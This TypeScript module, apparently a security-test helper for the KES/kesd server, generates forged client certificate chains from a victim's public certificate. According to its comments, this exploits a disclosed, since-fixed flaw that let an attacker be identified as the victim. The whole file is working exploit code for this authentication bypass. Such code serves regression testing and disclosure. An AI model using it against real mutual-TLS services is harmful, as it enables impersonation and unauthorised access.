// Client certificate chains an attacker can build from a victim's PUBLIC certificate (docs/security.md, finding 1):
// the attacker proves only its own key in the handshake; the other certificate carries the victim's public key.
import 'reflect-metadata';
import { webcrypto, X509Certificate } from 'node:crypto';
import * as x509 from '@peculiar/x509';

x509.cryptoProvider.set(webcrypto);

const DAY = 24 * 3600 * 1000;

export interface ForgedChain {
  /** PEM: the certificates in the order the client sends them. */
  readonly cert: string;
  /** PEM: the attacker's own private key (of the first certificate). */
  readonly key: string;
}

/** The attacker's algorithm follows the victim's: OpenSSL links an issuer only if its key type fits the signature. */
function algorithmOf(victim: X509Certificate): webcrypto.EcKeyGenParams | webcrypto.Algorithm {
  const type = victim.publicKey.asymmetricKeyType;
  if (type === 'ed25519') return { name: 'Ed25519' };
  if (type === 'ec') return { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' } as webcrypto.EcKeyGenParams;
  throw new Error(`forged-chain: unsupported victim key type ${type}`);
}

function pem(type: string, der: ArrayBuffer | Buffer): string {
  return `-----BEGIN ${type}-----\n${Buffer.from(der as ArrayBuffer)
    .toString('base64')
    .replace(/.{1,64}/g, '$&\n')}-----END ${type}-----\n`;
}

/**
 * [attacker's certificate (its own key, CA flag as given, issued "by" the forgery), forged non-CA certificate with the
 * victim's public key]. KES, and kesd before the fix, skipped the CA-marked first certificate and identified the
 * client by the forgery. With firstIsCa false the first certificate is a plain leaf, so two non-CA ones are linked.
 */
export async function forgedChain(victimCertPem: string, firstIsCa: boolean): Promise<ForgedChain> {
  const victim = new X509Certificate(victimCertPem);
  const alg = algorithmOf(victim);
  const attacker = (await webcrypto.subtle.generateKey(alg, true, ['sign', 'verify'])) as webcrypto.CryptoKeyPair;
  const victimKey = await webcrypto.subtle.importKey(
    'spki',
    victim.publicKey.export({ type: 'spki', format: 'der' }),
    alg,
    true,
    ['verify'],
  );
  const notBefore = new Date(Date.now() - 60_000);
  const notAfter = new Date(Date.now() + DAY);
  // No key usage on the forgery: OpenSSL would not take a certificate without keyCertSign as an issuer.
  const forged = await x509.X509CertificateGenerator.create({
    serialNumber: '0a',
    subject: 'CN=forged victim',
    issuer: 'CN=forged victim',
    notBefore,
    notAfter,
    publicKey: victimKey,
    signingKey: attacker.privateKey,
    signingAlgorithm: alg,
    extensions: [new x509.BasicConstraintsExtension(false, undefined, true)],
  });
  const own = await x509.X509CertificateGenerator.create({
    serialNumber: '0b',
    subject: 'CN=attacker',
    issuer: forged.subject,
    notBefore,
    notAfter,
    publicKey: attacker.publicKey,
    signingKey: attacker.privateKey,
    signingAlgorithm: alg,
    extensions: [
      new x509.BasicConstraintsExtension(firstIsCa, undefined, true),
      new x509.ExtendedKeyUsageExtension([x509.ExtendedKeyUsage.clientAuth]),
    ],
  });
  return {
    cert: own.toString('pem') + '\n' + forged.toString('pem') + '\n',
    key: pem('PRIVATE KEY', await webcrypto.subtle.exportKey('pkcs8', attacker.privateKey)),
  };
}
